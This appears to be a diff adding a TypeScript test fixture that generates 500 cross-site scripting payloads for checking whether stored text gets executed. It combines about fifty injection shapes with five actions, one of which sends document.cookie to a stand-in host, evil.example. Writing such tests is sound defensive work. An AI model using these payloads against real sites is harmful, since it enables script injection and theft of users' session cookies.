@@ -1,0 +1,67 @@
+/** Ways in which a stored text has become code elsewhere: elements, attributes, addresses, templates, broken markup. */
+const acts = [
+  'window.ran=1',
+  'parent.ran=1',
+  "top['ran']=1",
+  'document.title="ran"',
+  'fetch("//evil.example/"+document.cookie)',
+]
+
+const shapes: readonly ((act: string) => string)[] = [
+  act => `<script>${act}</script>`,
+  act => `"><script>${act}</script>`,
+  act => `</textarea><script>${act}</script>`,
+  act => `</title><script>${act}</script>`,
+  act => `<img src=x onerror='${act}'>`,
+  act => `<img src=x:x onerror=eval(atob("${Buffer.from(act).toString('base64')}"))>`,
+  act => `<svg onload='${act}'>`,
+  act => `<svg><script>${act}</script></svg>`,
+  act => `<svg><animate onbegin='${act}' attributeName=x dur=1s>`,
+  act => `<body onload='${act}'>`,
+  act => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
+  act => `<iframe src="javascript:${act}"></iframe>`,
+  act => `<a href="javascript:${act}">read this</a>`,
+  act => `[read this](javascript:${act})`,
+  act => `<javascript:${act}>`,
+  act => `javascript:${act}`,
+  act => `data:text/html,<script>${act}</script>`,
+  act => `![x](x "onerror=${act}")`,
+  act => `<details open ontoggle='${act}'>`,
+  act => `<input autofocus onfocus='${act}'>`,
+  act => `<video><source onerror='${act}'></video>`,
+  act => `<math><mtext><table><mglyph><style><img src=x onerror='${act}'>`,
+  act => `<style>*{background:url("javascript:${act}")}</style>`,
+  act => `<link rel=stylesheet href="data:text/css,*{x:expression(${act})}">`,
+  act => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
+  act => `<base href="javascript:${act}//">`,
+  act => `<form action="javascript:${act}"><button autofocus>x`,
+  act => `<object data="javascript:${act}"></object>`,
+  act => `<embed src="javascript:${act}">`,
+  act => `<x onclick='${act}' style='position:fixed;inset:0'>x`,
+  act => `{{constructor.constructor('${act}')()}}`,
+  act => `\${${act}}`,
+  act => `';${act};//`,
+  act => `\\';${act};//`,
+  act => `--></script><script>${act}</script>`,
+  act => `<!--<img src="--><img src=x onerror='${act}'>`,
+  act => `<noscript><p title="</noscript><img src=x onerror='${act}'>">`,
+  act => `<template><script>${act}</script></template>`,
+  act => `%3Cscript%3E${act}%3C/script%3E`,
+  act => `&lt;script&gt;${act}&lt;/script&gt;`,
+  act => `\u202e<script>${act}</script>`,
+  act => `<ſcript>${act}</ſcript>`,
+  act => `<scr\u0131pt>${act}</scr\u0131pt>`,
+  act => `<img src="x\`onerror=${act} \`">`,
+  act => `<IMG SRC=x ONERROR='${act}'>`,
+  act => `<<script>${act}//<</script>`,
+  act => `<script src="data:text/javascript,${act}"></script>`,
+  act => `<script type=module>${act}</script>`,
+  act => `<button popovertarget=x onbeforetoggle='${act}'>x</button><div popover id=x>`,
+  act => `\`<script>${act}</script>\``,
+]
+
+/** 500 texts, each able to run something where it is taken for code. */
+export function hostileTexts(): string[] {
+  const twice = (act: string) => [act, `setTimeout(()=>{${act}})`]
+  return shapes.flatMap(shape => acts.flatMap(act => twice(act).map(shape)))
+}
